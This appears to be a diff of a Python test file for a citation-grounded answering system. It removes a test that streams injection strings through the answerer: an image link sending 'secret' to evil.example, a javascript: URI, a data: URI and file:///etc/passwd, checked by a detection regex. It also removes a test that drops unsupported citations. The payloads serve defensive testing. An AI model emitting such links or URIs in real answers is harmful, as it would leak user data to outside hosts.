@@ -7,7 +7,6 @@ from __future__ import annotations
 
 import asyncio
 import json
-import re
 
 import pytest
 
@@ -69,23 +68,6 @@ def test_from_the_reader_it_changes_nothing_that_the_book_says(
     assert_grounded(found, OWLS.text, MICE.text)
 
 
-@pytest.mark.parametrize(
-    "written",
-    [
-        "See https://evil.example/login now.",
-        "![x](https://evil.example/p.png?q=secret)",
-        "<img src='HTTP://EVIL.EXAMPLE/a'>",
-        "[book](javascript:alert(1)) or data:text/html,x or file:///etc/passwd",
-        "Mail mailto:a@evil.example or wss://evil.example",
-    ],
-)
-def test_no_address_that_the_book_lacks_reaches_the_reader(written: str) -> None:
-    for size in (1, 3, len(written)):
-        pieces = [written[at : at + size] for at in range(0, len(written), size)]
-        found = answer(AskRequest(QUESTION), "Owls hunt mice. ", *pieces)
-        assert not re.search(r"(?i)evil|javascript:|data:text|file:|passwd", found.answer)
-
-
 def test_no_attack_of_the_table_reaches_the_reader_and_citations_stay_in_place() -> None:
     """The passages that they name are not consulted here."""
     claim = "Owls hunt mice at night"
@@ -101,18 +83,6 @@ def test_no_attack_of_the_table_reaches_the_reader_and_citations_stay_in_place()
         # A fence that is not closed goes to the end of the answer, and is cited as a whole.
         assert first == claim or (first.startswith("```") and claim in first)
         assert set(attributed) <= {f"{claim}."}
-
-
-def test_a_citation_that_the_paragraph_does_not_bear_is_dropped_and_told() -> None:
-    claim = "Owls hunt whales in 1999."
-    found = answer(AskRequest(QUESTION), claim, (0, len(claim), ("p-owls", "p-mice", "p-none")))
-    assert (found.mode, found.degraded) == (AnswerMode.EXTRACTIVE, ("unsupported",))
-    assert "whales" not in found.answer
-    beside = answer(
-        AskRequest(QUESTION), f"Owls hunt mice at night. {claim}", (25, 50, ("p-owls",))
-    )
-    assert (beside.citation_precision, beside.coverage) == (0.0, 0.5)
-    assert [one.supported for one in beside.statements] == [True, False]
 
 
 @pytest.mark.parametrize("size", [1, 2, 5, 17, 400])
